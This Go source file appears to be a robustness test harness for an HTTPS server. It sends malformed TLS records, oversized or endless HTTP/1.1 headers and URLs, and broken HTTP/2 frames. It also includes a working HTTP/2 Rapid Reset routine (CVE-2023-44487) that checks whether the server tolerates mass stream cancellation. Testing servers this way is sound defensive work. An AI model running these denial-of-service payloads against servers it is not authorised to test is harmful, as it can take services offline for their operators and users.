// Package rogue is what a stranger may do to an HTTPS server over one connection.
package rogue

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"net"
	"strings"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// An Attack does something over a connection that the server has to end. It returns
// when it has said all, or when the server no longer listens. The caller owns and
// closes the connection. The configuration is that of a client that trusts the server.
type Attack func(net.Conn, *tls.Config)

const (
	// settings is an empty SETTINGS frame (RFC 9113, 6.5), as a client's first has to be.
	settings = "\x00\x00\x00\x04\x00\x00\x00\x00\x00"
	// pair is a header that a client may send often: two literals of one byte.
	pair = "\x00\x01a\x01b"
)

// Malformed are attacks by name, each of which breaks a rule of TLS, of HTTP/1.1 or
// of HTTP/2, or is more than a server takes of a request's header.
func Malformed() map[string]Attack {
	huge := strings.Repeat("x", 64<<10)
	headers := strings.Repeat(pair, 1<<14/len(pair))
	size := string([]byte{byte(len(headers) >> 16), byte(len(headers) >> 8), byte(len(headers))})
	more := size + "\x09\x00\x00\x00\x00\x01" + headers
	return map[string]Attack{
		"no TLS":               plain("GET / HTTP/1.1\r\nHost: x\r\n\r\n"),
		"zeros":                plain(string(make([]byte, 20<<10))),
		"a record too long":    plain("\x16\x03\x01\xff\xff" + huge),
		"another version":      plain("\x16\x03\x00\x00\x05\x01\x00\x00\x01\x00"),
		"an endless header":    over("http/1.1", "GET / HTTP/1.1\r\nHost: x\r\nA: ", strings.Repeat(huge, 32)),
		"many headers":         over("http/1.1", "GET / HTTP/1.1\r\nHost: x\r\n", strings.Repeat("A: b\r\n", 400<<10)),
		"an endless URL":       over("http/1.1", "GET /", strings.Repeat(huge, 32)),
		"no request":           over("http/1.1", "\x00\x01\x02\r\n\r\n"),
		"no preface":           over("h2", "GET / HTTP/1.1\r\n\r\n", huge),
		"no settings":          over("h2", http2.ClientPreface, "\x00\x00\x08\x06\x00\x00\x00\x00\x00abcdefgh"),
		"a frame too large":    over("h2", http2.ClientPreface, settings, "\xff\xff\xff\x00\x00\x00\x00\x00\x01", strings.Repeat(huge, 32)),
		"data for no stream":   over("h2", http2.ClientPreface, settings, "\x00\x00\x01\x00\x00\x00\x00\x00\x01x"),
		"broken header block":  over("h2", http2.ClientPreface, settings, "\x00\x00\x04\x01\x05\x00\x00\x00\x01\xff\xff\xff\xff"),
		"endless continuation": over("h2", http2.ClientPreface, settings, "\x00\x00\x01\x01\x00\x00\x00\x00\x01\x82", strings.Repeat(more, 512)),
	}
}

// over says something within TLS, and reads what comes until nothing does.
func over(alpn string, say ...string) Attack {
	return func(raw net.Conn, conf *tls.Config) {
		c := offering(raw, conf, alpn)
		var wg sync.WaitGroup
		wg.Go(func() { _, _ = io.Copy(io.Discard, c) })
		defer wg.Wait()
		for _, s := range say {
			if _, err := io.WriteString(c, s); err != nil {
				return
			}
		}
	}
}

// plain says something without TLS, and reads what comes until nothing does.
func plain(say string) Attack {
	return func(c net.Conn, _ *tls.Config) {
		_, _ = io.WriteString(c, say)
		_, _ = io.Copy(io.Discard, c)
	}
}

func offering(raw net.Conn, conf *tls.Config, alpn string) *tls.Conn {
	conf = conf.Clone()
	conf.NextProtos = []string{alpn}
	return tls.Client(raw, conf)
}

// Reset makes n requests for a path over HTTP/2, takes each back at once
// (CVE-2023-44487), and says whether the server let it: whether it answers a PING that
// comes behind them all. Reset owns and closes the connection.
func Reset(raw net.Conn, conf *tls.Config, path string, n int) (let bool) {
	c := offering(raw, conf, "h2")
	var wg sync.WaitGroup
	wg.Go(func() {
		defer raw.Close()
		let = pinged(http2.NewFramer(io.Discard, c))
	})
	if _, err := io.WriteString(c, http2.ClientPreface); err == nil {
		takeBack(c, path, n)
	}
	wg.Wait()
	return let
}

// pinged reads until a PING is answered or the connection ends.
func pinged(f *http2.Framer) bool {
	for {
		frame, err := f.ReadFrame()
		if err != nil {
			return false
		}
		if p, ok := frame.(*http2.PingFrame); ok && p.IsAck() {
			return true
		}
	}
}

// takeBack writes n requests, each with its reset, and a PING.
func takeBack(c io.Writer, path string, n int) {
	var out, block bytes.Buffer // which take all
	f, enc := http2.NewFramer(&out, nil), hpack.NewEncoder(&block)
	_ = f.WriteSettings()
	for i := range n {
		id := uint32(2*i + 1)
		block.Reset()
		for _, x := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "server"}, {":path", path}} {
			_ = enc.WriteField(hpack.HeaderField{Name: x[0], Value: x[1]})
		}
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
		_ = f.WriteRSTStream(id, http2.ErrCodeCancel)
		if i == n-1 {
			_ = f.WritePing(false, [8]byte{})
		}
		if _, err := c.Write(out.Bytes()); err != nil {
			return
		}
		out.Reset()
	}
}

// Hello is the beginning of a TLS handshake that nobody goes on with.
func Hello(ctx context.Context) ([]byte, error) {
	a, b := net.Pipe()
	var wg sync.WaitGroup
	wg.Go(func() { _ = tls.Client(a, &tls.Config{ServerName: "example.com"}).HandshakeContext(ctx) })
	p := make([]byte, 16<<10)
	n, err := b.Read(p)
	_ = b.Close()
	wg.Wait()
	return p[:n], err
}
